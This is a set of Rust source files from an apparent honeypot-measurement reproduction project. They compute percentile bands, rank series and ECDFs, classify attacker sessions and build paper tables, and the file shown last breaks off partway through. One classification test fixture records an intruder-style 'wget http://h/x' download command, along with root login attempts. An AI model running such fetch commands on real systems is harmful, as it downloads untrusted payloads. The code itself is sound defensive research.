    let frac = rank - lo as f64;
    sorted[lo] as f64 * (1.0 - frac) + sorted[hi] as f64 * frac
}

impl BandSeries {
    /// Build from a (days × entities) matrix stored row-major:
    /// `counts[day * n_entities + e]` = value of entity `e` on `day`.
    /// `entities` optionally restricts which entity columns participate
    /// (e.g. the top-5% honeypots of Fig. 3).
    pub fn from_matrix(
        counts: &[u32],
        n_days: u32,
        n_entities: usize,
        entities: Option<&[u16]>,
    ) -> Self {
        assert_eq!(counts.len(), n_days as usize * n_entities);
        let mut points = Vec::with_capacity(n_days as usize);
        let mut scratch: Vec<u32> = Vec::new();
        for day in 0..n_days {
            scratch.clear();
            let row = &counts[day as usize * n_entities..(day as usize + 1) * n_entities];
            match entities {
                Some(sel) => scratch.extend(sel.iter().map(|&e| row[e as usize])),
                None => scratch.extend_from_slice(row),
            }
            scratch.sort_unstable();
            points.push(BandPoint {
                day,
                p5: percentile(&scratch, 0.05),
                q25: percentile(&scratch, 0.25),
                median: percentile(&scratch, 0.50),
                q75: percentile(&scratch, 0.75),
                p95: percentile(&scratch, 0.95),
            });
        }
        BandSeries { points }
    }

    /// Number of days.
    pub fn len(&self) -> usize {
        self.points.len()
    }

    /// Is the series empty?
    pub fn is_empty(&self) -> bool {
        self.points.is_empty()
    }

    /// Maximum median across days (used in summaries).
    pub fn peak_median(&self) -> f64 {
        self.points.iter().map(|p| p.median).fold(0.0, f64::max)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn percentile_interpolation() {
        let v = [0, 10, 20, 30, 40];
        assert_eq!(percentile(&v, 0.0), 0.0);
        assert_eq!(percentile(&v, 0.5), 20.0);
        assert_eq!(percentile(&v, 1.0), 40.0);
        assert_eq!(percentile(&v, 0.25), 10.0);
        assert!((percentile(&v, 0.1) - 4.0).abs() < 1e-9);
    }

    #[test]
    fn band_ordering_invariant() {
        // 3 days × 4 entities.
        let counts = vec![
            1, 2, 3, 4, //
            10, 0, 5, 5, //
            7, 7, 7, 7,
        ];
        let s = BandSeries::from_matrix(&counts, 3, 4, None);
        assert_eq!(s.len(), 3);
        for p in &s.points {
            assert!(p.p5 <= p.q25);
            assert!(p.q25 <= p.median);
            assert!(p.median <= p.q75);
            assert!(p.q75 <= p.p95);
        }
        assert_eq!(s.points[2].median, 7.0);
        assert_eq!(s.peak_median(), 7.0);
    }

    #[test]
    fn entity_selection() {
        let counts = vec![1, 100, 1, 100]; // 1 day × 4 entities
        let all = BandSeries::from_matrix(&counts, 1, 4, None);
        let top = BandSeries::from_matrix(&counts, 1, 4, Some(&[1, 3]));
        assert!(top.points[0].median > all.points[0].median);
        assert_eq!(top.points[0].median, 100.0);
    }

    #[test]
    fn single_entity() {
        let counts = vec![5, 9]; // 2 days × 1 entity
        let s = BandSeries::from_matrix(&counts, 2, 1, None);
        assert_eq!(s.points[0].median, 5.0);
        assert_eq!(s.points[1].p95, 9.0);
    }
}
