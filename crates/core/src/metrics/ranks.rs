//! Rank (long-tail) series: values sorted descending with rank indices —
//! the form of Figs. 2, 14, 18–21.

/// Sort counts descending, returning `(rank, value)` pairs (rank is
/// 1-based, as plotted on the paper's log axes).
pub fn rank_series(counts: impl IntoIterator<Item = u64>) -> Vec<(u32, u64)> {
    let mut v: Vec<u64> = counts.into_iter().collect();
    v.sort_unstable_by(|a, b| b.cmp(a));
    v.into_iter()
        .enumerate()
        .map(|(i, c)| (i as u32 + 1, c))
        .collect()
}

/// Share of the total held by the top `k` entries of a rank series.
pub fn top_k_share(series: &[(u32, u64)], k: usize) -> f64 {
    let total: u64 = series.iter().map(|(_, c)| c).sum();
    if total == 0 {
        return 0.0;
    }
    let top: u64 = series.iter().take(k).map(|(_, c)| c).sum();
    top as f64 / total as f64
}

/// Ratio between the maximum and minimum non-zero values.
pub fn max_min_ratio(series: &[(u32, u64)]) -> Option<f64> {
    let max = series.first().map(|&(_, c)| c)?;
    let min = series.iter().rev().map(|&(_, c)| c).find(|&c| c > 0)?;
    Some(max as f64 / min as f64)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ranks_are_descending() {
        let s = rank_series(vec![5, 100, 1, 42]);
        assert_eq!(s, vec![(1, 100), (2, 42), (3, 5), (4, 1)]);
    }

    #[test]
    fn top_k_share_math() {
        let s = rank_series(vec![50, 30, 20]);
        assert!((top_k_share(&s, 1) - 0.5).abs() < 1e-12);
        assert!((top_k_share(&s, 2) - 0.8).abs() < 1e-12);
        assert!((top_k_share(&s, 10) - 1.0).abs() < 1e-12);
    }

    #[test]
    fn ratio_ignores_zeros() {
        let s = rank_series(vec![90, 3, 0, 0]);
        assert_eq!(max_min_ratio(&s), Some(30.0));
        assert_eq!(max_min_ratio(&[]), None);
    }

    #[test]
    fn empty_series() {
        assert!(rank_series(Vec::<u64>::new()).is_empty());
        assert_eq!(top_k_share(&[], 3), 0.0);
    }
}
