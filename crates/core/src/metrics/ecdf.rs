//! Empirical cumulative distribution functions (Figs. 7, 12, 13, 22).

use serde::{Deserialize, Serialize};

/// An ECDF over u64 samples, stored as sorted (value, cumulative count).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Ecdf {
    /// Distinct sample values, ascending.
    values: Vec<u64>,
    /// Cumulative counts parallel to `values`; last = total.
    cum: Vec<u64>,
}

impl Ecdf {
    /// Build from unsorted samples.
    pub fn from_samples(mut samples: Vec<u64>) -> Self {
        samples.sort_unstable();
        let mut values = Vec::new();
        let mut cum = Vec::new();
        let mut count = 0u64;
        for s in samples {
            count += 1;
            if values.last() == Some(&s) {
                *cum.last_mut().unwrap() = count;
            } else {
                values.push(s);
                cum.push(count);
            }
        }
        Ecdf { values, cum }
    }

    /// Build from a histogram of (value, count).
    pub fn from_histogram(hist: impl IntoIterator<Item = (u64, u64)>) -> Self {
        let mut items: Vec<(u64, u64)> = hist.into_iter().filter(|&(_, c)| c > 0).collect();
        items.sort_unstable();
        let mut values = Vec::with_capacity(items.len());
        let mut cum = Vec::with_capacity(items.len());
        let mut count = 0u64;
        for (v, c) in items {
            count += c;
            if values.last() == Some(&v) {
                *cum.last_mut().unwrap() = count;
            } else {
                values.push(v);
                cum.push(count);
            }
        }
        Ecdf { values, cum }
    }

    /// Total sample count.
    pub fn total(&self) -> u64 {
        self.cum.last().copied().unwrap_or(0)
    }

    /// Is the ECDF empty?
    pub fn is_empty(&self) -> bool {
        self.total() == 0
    }

    /// F(x): fraction of samples ≤ x.
    pub fn fraction_le(&self, x: u64) -> f64 {
        if self.is_empty() {
            return 0.0;
        }
        let idx = self.values.partition_point(|&v| v <= x);
        if idx == 0 {
            0.0
        } else {
            self.cum[idx - 1] as f64 / self.total() as f64
        }
    }

    /// Fraction of samples strictly greater than x.
    pub fn fraction_gt(&self, x: u64) -> f64 {
        1.0 - self.fraction_le(x)
    }

    /// Smallest value with F(value) ≥ q (q in \[0,1\]).
    pub fn quantile(&self, q: f64) -> Option<u64> {
        if self.is_empty() {
            return None;
        }
        let need = (q.clamp(0.0, 1.0) * self.total() as f64).ceil().max(1.0) as u64;
        let idx = self.cum.partition_point(|&c| c < need);
        self.values.get(idx.min(self.values.len() - 1)).copied()
    }

    /// Median.
    pub fn median(&self) -> Option<u64> {
        self.quantile(0.5)
    }

    /// Plot points `(value, F(value))`, at most `max_points` (downsampled).
    pub fn points(&self, max_points: usize) -> Vec<(u64, f64)> {
        if self.values.is_empty() || max_points == 0 {
            return Vec::new();
        }
        let total = self.total() as f64;
        let step = (self.values.len() / max_points.max(1)).max(1);
        let mut pts: Vec<(u64, f64)> = self
            .values
            .iter()
            .zip(&self.cum)
            .step_by(step)
            .map(|(&v, &c)| (v, c as f64 / total))
            .collect();
        // Always include the final point.
        let last = (*self.values.last().unwrap(), 1.0);
        if pts.last() != Some(&last) {
            pts.push(last);
        }
        pts
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn basic_fractions() {
        let e = Ecdf::from_samples(vec![1, 1, 2, 5, 5, 5, 10]);
        assert_eq!(e.total(), 7);
        assert!((e.fraction_le(0) - 0.0).abs() < 1e-12);
        assert!((e.fraction_le(1) - 2.0 / 7.0).abs() < 1e-12);
        assert!((e.fraction_le(5) - 6.0 / 7.0).abs() < 1e-12);
        assert!((e.fraction_le(100) - 1.0).abs() < 1e-12);
        assert!((e.fraction_gt(5) - 1.0 / 7.0).abs() < 1e-12);
    }

    #[test]
    fn quantiles() {
        let e = Ecdf::from_samples((1..=100).collect());
        assert_eq!(e.median(), Some(50));
        assert_eq!(e.quantile(0.05), Some(5));
        assert_eq!(e.quantile(0.95), Some(95));
        assert_eq!(e.quantile(1.0), Some(100));
        assert_eq!(e.quantile(0.0), Some(1));
    }

    #[test]
    fn histogram_matches_samples() {
        let a = Ecdf::from_samples(vec![3, 3, 3, 7, 9, 9]);
        let b = Ecdf::from_histogram([(3, 3), (7, 1), (9, 2)]);
        assert_eq!(a, b);
    }

    #[test]
    fn empty_is_safe() {
        let e = Ecdf::from_samples(vec![]);
        assert!(e.is_empty());
        assert_eq!(e.median(), None);
        assert_eq!(e.fraction_le(5), 0.0);
        assert!(e.points(10).is_empty());
    }

    #[test]
    fn points_downsampled_and_terminated() {
        let e = Ecdf::from_samples((0..1000).collect());
        let pts = e.points(20);
        assert!(pts.len() <= 22);
        assert_eq!(pts.last().unwrap().1, 1.0);
    }

    proptest! {
        /// ECDF is monotone non-decreasing and bounded by [0,1].
        #[test]
        fn prop_monotone(samples in proptest::collection::vec(0u64..1000, 1..200)) {
            let e = Ecdf::from_samples(samples);
            let mut prev = 0.0;
            for x in (0..1000).step_by(37) {
                let f = e.fraction_le(x);
                prop_assert!(f >= prev - 1e-12);
                prop_assert!((0.0..=1.0).contains(&f));
                prev = f;
            }
            prop_assert_eq!(e.fraction_le(u64::MAX), 1.0);
        }

        /// The q-quantile has at least q mass at or below it.
        #[test]
        fn prop_quantile_mass(samples in proptest::collection::vec(0u64..100, 1..100), q in 0.0f64..1.0) {
            let e = Ecdf::from_samples(samples);
            let v = e.quantile(q).unwrap();
            prop_assert!(e.fraction_le(v) >= q - 1e-9);
        }
    }
}
