//! Session classification (paper Section 6, Fig. 5).
//!
//! The flow diagram: did the client send credentials? → did a login succeed?
//! → were commands executed? → did a command reference a URI? Five leaves:
//! NO_CRED, FAIL_LOG, NO_CMD, CMD, CMD+URI; grouped into three behaviour
//! classes (scanning / scouting / intrusion).

use hf_farm::SessionView;
use serde::{Deserialize, Serialize};

/// The five session categories of Section 6.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub enum Category {
    /// No credentials ever offered (port scan).
    NoCred,
    /// Login attempted, never succeeded.
    FailLog,
    /// Successful login, no commands.
    NoCmd,
    /// Successful login + commands, no URI.
    Cmd,
    /// Successful login + commands + external URI.
    CmdUri,
}

impl Category {
    /// All categories in paper order.
    pub const ALL: [Category; 5] = [
        Category::NoCred,
        Category::FailLog,
        Category::NoCmd,
        Category::Cmd,
        Category::CmdUri,
    ];

    /// Paper label.
    pub fn label(self) -> &'static str {
        match self {
            Category::NoCred => "NO_CRED",
            Category::FailLog => "FAIL_LOG",
            Category::NoCmd => "NO_CMD",
            Category::Cmd => "CMD",
            Category::CmdUri => "CMD+URI",
        }
    }

    /// Dense index (0..5) for array-based aggregation.
    pub fn index(self) -> usize {
        match self {
            Category::NoCred => 0,
            Category::FailLog => 1,
            Category::NoCmd => 2,
            Category::Cmd => 3,
            Category::CmdUri => 4,
        }
    }

    /// Inverse of [`Category::index`].
    pub fn from_index(i: usize) -> Category {
        Category::ALL[i]
    }

    /// The behaviour class this category belongs to.
    pub fn behavior(self) -> BehaviorClass {
        match self {
            Category::NoCred => BehaviorClass::Scanning,
            Category::FailLog => BehaviorClass::Scouting,
            _ => BehaviorClass::Intrusion,
        }
    }
}

impl std::fmt::Display for Category {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.label())
    }
}

/// The paper's three client behaviour classes.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub enum BehaviorClass {
    /// NO_CRED: checking for open ports.
    Scanning,
    /// FAIL_LOG: trying credentials.
    Scouting,
    /// NO_CMD / CMD / CMD+URI: shell access obtained.
    Intrusion,
}

impl BehaviorClass {
    /// Label used in reports.
    pub fn label(self) -> &'static str {
        match self {
            BehaviorClass::Scanning => "scanning",
            BehaviorClass::Scouting => "scouting",
            BehaviorClass::Intrusion => "intrusion",
        }
    }
}

/// Classify one stored session.
pub fn classify(v: &SessionView<'_>) -> Category {
    if !v.attempted_login() {
        Category::NoCred
    } else if !v.login_succeeded() {
        Category::FailLog
    } else if v.n_commands() == 0 {
        Category::NoCmd
    } else if !v.has_uri() {
        Category::Cmd
    } else {
        Category::CmdUri
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use hf_farm::SessionStore;
    use hf_geo::Ip4;
    use hf_honeypot::{EndReason, LoginAttempt, SessionRecord};
    use hf_proto::creds::Credentials;
    use hf_proto::Protocol;
    use hf_shell::CommandRecord;
    use hf_simclock::SimInstant;

    fn base() -> SessionRecord {
        SessionRecord {
            honeypot: 0,
            protocol: Protocol::Ssh,
            client_ip: Ip4::new(16, 0, 0, 1),
            client_port: 1,
            start: SimInstant::EPOCH,
            duration_secs: 1,
            ended_by: EndReason::ClientClose,
            ssh_client_version: None,
            logins: vec![],
            commands: vec![],
            uris: vec![],
            file_hashes: vec![],
            download_hashes: vec![],
        }
    }

    fn classify_record(rec: SessionRecord) -> Category {
        let mut store = SessionStore::new();
        store.ingest(&rec, None);
        classify(&store.view(0))
    }

    #[test]
    fn taxonomy_leaves() {
        // NO_CRED
        assert_eq!(classify_record(base()), Category::NoCred);
        // FAIL_LOG
        let mut r = base();
        r.logins.push(LoginAttempt {
            creds: Credentials::new("root", "root"),
            accepted: false,
        });
        assert_eq!(classify_record(r), Category::FailLog);
        // NO_CMD
        let mut r = base();
        r.logins.push(LoginAttempt {
            creds: Credentials::new("root", "x"),
            accepted: true,
        });
        assert_eq!(classify_record(r), Category::NoCmd);
        // CMD
        let mut r = base();
        r.logins.push(LoginAttempt {
            creds: Credentials::new("root", "x"),
            accepted: true,
        });
        r.commands.push(CommandRecord {
            input: "uname".into(),
            known: true,
        });
        assert_eq!(classify_record(r), Category::Cmd);
        // CMD+URI
        let mut r = base();
        r.logins.push(LoginAttempt {
            creds: Credentials::new("root", "x"),
            accepted: true,
        });
        r.commands.push(CommandRecord {
            input: "wget http://h/x".into(),
            known: true,
        });
        r.uris.push("http://h/x".into());
        assert_eq!(classify_record(r), Category::CmdUri);
    }

    #[test]
    fn failed_then_successful_login_is_intrusion() {
        // "there might have been unsuccessful login attempts prior to the
        // successful one within the same session" — still NO_CMD.
        let mut r = base();
        r.logins.push(LoginAttempt {
            creds: Credentials::new("admin", "x"),
            accepted: false,
        });
        r.logins.push(LoginAttempt {
            creds: Credentials::new("root", "x"),
            accepted: true,
        });
        assert_eq!(classify_record(r), Category::NoCmd);
    }

    #[test]
    fn behavior_classes() {
        assert_eq!(Category::NoCred.behavior(), BehaviorClass::Scanning);
        assert_eq!(Category::FailLog.behavior(), BehaviorClass::Scouting);
        for c in [Category::NoCmd, Category::Cmd, Category::CmdUri] {
            assert_eq!(c.behavior(), BehaviorClass::Intrusion);
        }
    }

    #[test]
    fn index_roundtrip() {
        for (i, c) in Category::ALL.iter().enumerate() {
            assert_eq!(c.index(), i);
            assert_eq!(Category::from_index(i), *c);
        }
    }

    #[test]
    fn labels_match_paper() {
        let labels: Vec<&str> = Category::ALL.iter().map(|c| c.label()).collect();
        assert_eq!(
            labels,
            vec!["NO_CRED", "FAIL_LOG", "NO_CMD", "CMD", "CMD+URI"]
        );
    }
}
