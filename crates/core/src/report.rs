//! Per-table and per-figure reproducers.
//!
//! Every table (T1–T6) and figure (F1–F24) of the paper has a builder here
//! returning typed rows/series; [`Report::build`] assembles them all and
//! [`Report::write_dir`] dumps TSV files plus a human-readable summary — the
//! "same rows/series the paper reports".

pub mod figures;
pub mod render;
pub mod tables;

use std::io::{BufWriter, Write as _};
use std::path::Path;

use hf_farm::{Dataset, TagDb};

use crate::aggregates::Aggregates;

pub use figures::*;
pub use tables::*;

/// The full reproduction report.
pub struct Report {
    /// Table 1: session percentages per category and protocol.
    pub table1: Table1,
    /// Table 2: top successful passwords.
    pub table2: Table2,
    /// Table 3: top command lines.
    pub table3: Table3,
    /// Table 4: top hashes by sessions.
    pub table4: HashTable,
    /// Table 5: top hashes by client IPs.
    pub table5: HashTable,
    /// Table 6: top hashes by active days.
    pub table6: HashTable,
    /// Figure 1: honeypots per country.
    pub fig1: Fig1,
    /// Figure 2: sessions per honeypot, ranked.
    pub fig2: Fig2,
    /// Figure 3: daily bands, top-5% honeypots.
    pub fig3: FigBands,
    /// Figure 4: daily bands, all honeypots.
    pub fig4: FigBands,
    /// Figure 5: classification flow counts.
    pub fig5: Fig5,
    /// Figure 6: category fractions over time.
    pub fig6: Fig6,
    /// Figure 7: session-duration ECDFs per category.
    pub fig7: Fig7,
    /// Figure 8: per-category daily bands, all honeypots.
    pub fig8: FigCatBands,
    /// Figure 9: per-category daily bands, top-5% honeypots.
    pub fig9: FigCatBands,
    /// Figure 10 (and 23): client IPs per country, overall and per category.
    pub fig10: Fig10,
    /// Figure 11: daily unique client IPs per category.
    pub fig11: Fig11,
    /// Figure 12: ECDF of honeypots contacted per client.
    pub fig12: FigClientEcdf,
    /// Figure 13: ECDF of active days per client.
    pub fig13: FigClientEcdf,
    /// Figure 14: clients per honeypot, ranked, with session overlay.
    pub fig14: Fig14,
    /// Figure 15: daily clients per category combination.
    pub fig15: Fig15,
    /// Figure 16 (and 24): regional diversity over time.
    pub fig16: Fig16,
    /// Figure 17: daily unique hashes and freshness.
    pub fig17: Fig17,
    /// Figure 18/19: hashes per honeypot with client/session overlays.
    pub fig18: Fig18,
    /// Figure 20: clients per hash, ranked.
    pub fig20: FigRank,
    /// Figure 21: hashes per client, ranked.
    pub fig21: FigRank,
    /// Figure 22: campaign-length ECDFs by tag.
    pub fig22: Fig22,
}

impl Report {
    /// Build every table and figure from the aggregates, serially.
    ///
    /// Fused scans: the top-5% honeypot selection is computed once and
    /// shared by Figs. 3/4/8/9, and Figs. 12/13 come from one pass over
    /// the client map ([`figures::client_ecdfs`]).
    pub fn build_with_tags(dataset: &Dataset, agg: &Aggregates, tags: &TagDb) -> Report {
        Self::build_with_tags_threaded(dataset, agg, tags, 1)
    }

    /// Build the report, running independent builder groups concurrently.
    ///
    /// Every builder consumes the shared immutable [`Aggregates`], so the
    /// groups are data-independent; results are assembled into the struct
    /// in a fixed order, making the output identical for any `threads`.
    /// `threads <= 1` runs everything on the calling thread.
    pub fn build_with_tags_threaded(
        dataset: &Dataset,
        agg: &Aggregates,
        tags: &TagDb,
        threads: usize,
    ) -> Report {
        let _span = hf_obs::span!("report.build");
        // The three expensive groups (matrix quantiles, hash-table sorts,
        // client-map passes) and the cheap remainder. Each group times
        // itself and, when run on a scoped worker, flushes its metrics
        // buffer before the thread exits; an extra flush on the calling
        // thread (threads <= 1) is harmless.
        let bands = || {
            let out = {
                let _g = hf_obs::span!("report.bands");
                let sel = figures::top5pct_honeypots(agg);
                (
                    figures::fig_bands_with(agg, Some(&sel)),
                    figures::fig_bands_with(agg, None),
                    figures::fig_cat_bands_with(agg, None),
                    figures::fig_cat_bands_with(agg, Some(&sel)),
                )
            };
            hf_obs::flush();
            out
        };
        let hashes = || {
            let out = {
                let _g = hf_obs::span!("report.hashes");
                (
                    tables::hash_table(dataset, agg, tags, HashSortKey::Sessions, 20),
                    tables::hash_table(dataset, agg, tags, HashSortKey::Clients, 20),
                    tables::hash_table(dataset, agg, tags, HashSortKey::Days, 20),
                    figures::fig18(agg),
                    figures::fig20(agg),
                    figures::fig22(dataset, agg, tags),
                )
            };
            hf_obs::flush();
            out
        };
        let clients = || {
            let out = {
                let _g = hf_obs::span!("report.clients");
                (
                    figures::client_ecdfs(agg),
                    figures::fig10(agg),
                    figures::fig14(agg),
                    figures::fig21(agg),
                )
            };
            hf_obs::flush();
            out
        };

        let (
            (fig3, fig4, fig8, fig9),
            (table4, table5, table6, fig18, fig20, fig22),
            ((fig12, fig13), fig10, fig14, fig21),
        ) = if threads <= 1 {
            (bands(), hashes(), clients())
        } else {
            std::thread::scope(|scope| {
                let hb = scope.spawn(bands);
                let hh = scope.spawn(hashes);
                let hc = scope.spawn(clients);
                (
                    hb.join().expect("bands builder panicked"),
                    hh.join().expect("hash builder panicked"),
                    hc.join().expect("client builder panicked"),
                )
            })
        };

        Report {
            table1: tables::table1(agg),
            table2: tables::table2(dataset, agg),
            table3: tables::table3(dataset, agg),
            table4,
            table5,
            table6,
            fig1: figures::fig1(dataset),
            fig2: figures::fig2(agg),
            fig3,
            fig4,
            fig5: figures::fig5(agg),
            fig6: figures::fig6(agg),
            fig7: figures::fig7(agg),
            fig8,
            fig9,
            fig10,
            fig11: figures::fig11(agg),
            fig12,
            fig13,
            fig14,
            fig15: figures::fig15(agg),
            fig16: figures::fig16(agg),
            fig17: figures::fig17(agg),
            fig18,
            fig20,
            fig21,
            fig22,
        }
    }

    /// Convenience wrapper using an empty tag database.
    pub fn build(dataset: &Dataset, agg: &Aggregates) -> Report {
        Self::build_with_tags(dataset, agg, &TagDb::new())
    }

    /// Convenience wrapper: concurrent build with an empty tag database.
    pub fn build_threaded(dataset: &Dataset, agg: &Aggregates, threads: usize) -> Report {
        Self::build_with_tags_threaded(dataset, agg, &TagDb::new(), threads)
    }

    /// Write every table/figure as TSV plus `summary.md` into a directory.
    ///
    /// Artifacts stream through a `BufWriter` via their `write_tsv`
    /// methods — no intermediate per-file `String`.
    pub fn write_dir(&self, dir: &Path) -> std::io::Result<()> {
        let _span = hf_obs::span!("report.render");
        std::fs::create_dir_all(dir)?;
        let write = |name: &str,
                     f: &dyn Fn(&mut BufWriter<std::fs::File>) -> std::io::Result<()>|
         -> std::io::Result<()> {
            let mut w = BufWriter::new(std::fs::File::create(dir.join(name))?);
            f(&mut w)?;
            w.flush()?;
            hf_obs::counter!("report.artifacts_written", 1);
            Ok(())
        };
        write("table1.tsv", &|w| self.table1.write_tsv(w))?;
        write("table2.tsv", &|w| self.table2.write_tsv(w))?;
        write("table3.tsv", &|w| self.table3.write_tsv(w))?;
        write("table4.tsv", &|w| self.table4.write_tsv(w))?;
        write("table5.tsv", &|w| self.table5.write_tsv(w))?;
        write("table6.tsv", &|w| self.table6.write_tsv(w))?;
        write("fig01_deployment.tsv", &|w| self.fig1.write_tsv(w))?;
        write("fig02_sessions_per_honeypot.tsv", &|w| {
            self.fig2.write_tsv(w)
        })?;
        write("fig03_bands_top5.tsv", &|w| self.fig3.write_tsv(w))?;
        write("fig04_bands_all.tsv", &|w| self.fig4.write_tsv(w))?;
        write("fig05_flow.tsv", &|w| self.fig5.write_tsv(w))?;
        write("fig06_category_timeseries.tsv", &|w| self.fig6.write_tsv(w))?;
        write("fig07_duration_ecdf.tsv", &|w| self.fig7.write_tsv(w))?;
        write("fig08_category_bands_all.tsv", &|w| self.fig8.write_tsv(w))?;
        write("fig09_category_bands_top5.tsv", &|w| self.fig9.write_tsv(w))?;
        write("fig10_23_client_countries.tsv", &|w| {
            self.fig10.write_tsv(w)
        })?;
        write("fig11_daily_ips.tsv", &|w| self.fig11.write_tsv(w))?;
        write("fig12_spread_ecdf.tsv", &|w| self.fig12.write_tsv(w))?;
        write("fig13_days_ecdf.tsv", &|w| self.fig13.write_tsv(w))?;
        write("fig14_clients_per_honeypot.tsv", &|w| {
            self.fig14.write_tsv(w)
        })?;
        write("fig15_multirole.tsv", &|w| self.fig15.write_tsv(w))?;
        write("fig16_24_regional.tsv", &|w| self.fig16.write_tsv(w))?;
        write("fig17_freshness.tsv", &|w| self.fig17.write_tsv(w))?;
        write("fig18_19_hashes_per_honeypot.tsv", &|w| {
            self.fig18.write_tsv(w)
        })?;
        write("fig20_clients_per_hash.tsv", &|w| self.fig20.write_tsv(w))?;
        write("fig21_hashes_per_client.tsv", &|w| self.fig21.write_tsv(w))?;
        write("fig22_campaign_length.tsv", &|w| self.fig22.write_tsv(w))?;
        write("summary.md", &|w| w.write_all(self.summary().as_bytes()))?;
        Ok(())
    }

    /// Human-readable summary of the headline tables.
    pub fn summary(&self) -> String {
        format!(
            "# Honeyfarm reproduction report\n\n## Table 1\n{}\n## Table 2\n{}\n## Table 4 (top hashes by sessions)\n{}\n## Fig. 2\n{}\n",
            self.table1, self.table2, self.table4, self.fig2
        )
    }
}
