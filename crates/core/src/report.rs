//! Per-table and per-figure reproducers.
//!
//! Every table (T1–T6) and figure (F1–F24) of the paper has a builder here
//! returning typed rows/series; [`Report::build`] assembles them all and
//! [`Report::write_dir`] dumps TSV files plus a human-readable summary — the
//! "same rows/series the paper reports".

pub mod figures;
pub mod render;
pub mod tables;

use std::io::Write as _;
use std::path::Path;

use hf_farm::{Dataset, TagDb};

use crate::aggregates::Aggregates;

pub use figures::*;
pub use tables::*;

/// The full reproduction report.
pub struct Report {
    /// Table 1: session percentages per category and protocol.
    pub table1: Table1,
    /// Table 2: top successful passwords.
    pub table2: Table2,
    /// Table 3: top command lines.
    pub table3: Table3,
    /// Table 4: top hashes by sessions.
    pub table4: HashTable,
    /// Table 5: top hashes by client IPs.
    pub table5: HashTable,
    /// Table 6: top hashes by active days.
    pub table6: HashTable,
    /// Figure 1: honeypots per country.
    pub fig1: Fig1,
    /// Figure 2: sessions per honeypot, ranked.
    pub fig2: Fig2,
    /// Figure 3: daily bands, top-5% honeypots.
    pub fig3: FigBands,
    /// Figure 4: daily bands, all honeypots.
    pub fig4: FigBands,
    /// Figure 5: classification flow counts.
    pub fig5: Fig5,
    /// Figure 6: category fractions over time.
    pub fig6: Fig6,
    /// Figure 7: session-duration ECDFs per category.
    pub fig7: Fig7,
    /// Figure 8: per-category daily bands, all honeypots.
    pub fig8: FigCatBands,
    /// Figure 9: per-category daily bands, top-5% honeypots.
    pub fig9: FigCatBands,
    /// Figure 10 (and 23): client IPs per country, overall and per category.
    pub fig10: Fig10,
    /// Figure 11: daily unique client IPs per category.
    pub fig11: Fig11,
    /// Figure 12: ECDF of honeypots contacted per client.
    pub fig12: FigClientEcdf,
    /// Figure 13: ECDF of active days per client.
    pub fig13: FigClientEcdf,
    /// Figure 14: clients per honeypot, ranked, with session overlay.
    pub fig14: Fig14,
    /// Figure 15: daily clients per category combination.
    pub fig15: Fig15,
    /// Figure 16 (and 24): regional diversity over time.
    pub fig16: Fig16,
    /// Figure 17: daily unique hashes and freshness.
    pub fig17: Fig17,
    /// Figure 18/19: hashes per honeypot with client/session overlays.
    pub fig18: Fig18,
    /// Figure 20: clients per hash, ranked.
    pub fig20: FigRank,
    /// Figure 21: hashes per client, ranked.
    pub fig21: FigRank,
    /// Figure 22: campaign-length ECDFs by tag.
    pub fig22: Fig22,
}

impl Report {
    /// Build every table and figure from the aggregates.
    pub fn build_with_tags(dataset: &Dataset, agg: &Aggregates, tags: &TagDb) -> Report {
        Report {
            table1: tables::table1(agg),
            table2: tables::table2(dataset, agg),
            table3: tables::table3(dataset, agg),
            table4: tables::hash_table(dataset, agg, tags, HashSortKey::Sessions, 20),
            table5: tables::hash_table(dataset, agg, tags, HashSortKey::Clients, 20),
            table6: tables::hash_table(dataset, agg, tags, HashSortKey::Days, 20),
            fig1: figures::fig1(dataset),
            fig2: figures::fig2(agg),
            fig3: figures::fig_bands(agg, true),
            fig4: figures::fig_bands(agg, false),
            fig5: figures::fig5(agg),
            fig6: figures::fig6(agg),
            fig7: figures::fig7(agg),
            fig8: figures::fig_cat_bands(agg, false),
            fig9: figures::fig_cat_bands(agg, true),
            fig10: figures::fig10(agg),
            fig11: figures::fig11(agg),
            fig12: figures::fig12(agg),
            fig13: figures::fig13(agg),
            fig14: figures::fig14(agg),
            fig15: figures::fig15(agg),
            fig16: figures::fig16(agg),
            fig17: figures::fig17(agg),
            fig18: figures::fig18(agg),
            fig20: figures::fig20(agg),
            fig21: figures::fig21(agg),
            fig22: figures::fig22(dataset, agg, tags),
        }
    }

    /// Convenience wrapper using an empty tag database.
    pub fn build(dataset: &Dataset, agg: &Aggregates) -> Report {
        Self::build_with_tags(dataset, agg, &TagDb::new())
    }

    /// Write every table/figure as TSV plus `summary.md` into a directory.
    pub fn write_dir(&self, dir: &Path) -> std::io::Result<()> {
        std::fs::create_dir_all(dir)?;
        let write = |name: &str, content: String| -> std::io::Result<()> {
            let mut f = std::fs::File::create(dir.join(name))?;
            f.write_all(content.as_bytes())
        };
        write("table1.tsv", self.table1.to_tsv())?;
        write("table2.tsv", self.table2.to_tsv())?;
        write("table3.tsv", self.table3.to_tsv())?;
        write("table4.tsv", self.table4.to_tsv())?;
        write("table5.tsv", self.table5.to_tsv())?;
        write("table6.tsv", self.table6.to_tsv())?;
        write("fig01_deployment.tsv", self.fig1.to_tsv())?;
        write("fig02_sessions_per_honeypot.tsv", self.fig2.to_tsv())?;
        write("fig03_bands_top5.tsv", self.fig3.to_tsv())?;
        write("fig04_bands_all.tsv", self.fig4.to_tsv())?;
        write("fig05_flow.tsv", self.fig5.to_tsv())?;
        write("fig06_category_timeseries.tsv", self.fig6.to_tsv())?;
        write("fig07_duration_ecdf.tsv", self.fig7.to_tsv())?;
        write("fig08_category_bands_all.tsv", self.fig8.to_tsv())?;
        write("fig09_category_bands_top5.tsv", self.fig9.to_tsv())?;
        write("fig10_23_client_countries.tsv", self.fig10.to_tsv())?;
        write("fig11_daily_ips.tsv", self.fig11.to_tsv())?;
        write("fig12_spread_ecdf.tsv", self.fig12.to_tsv())?;
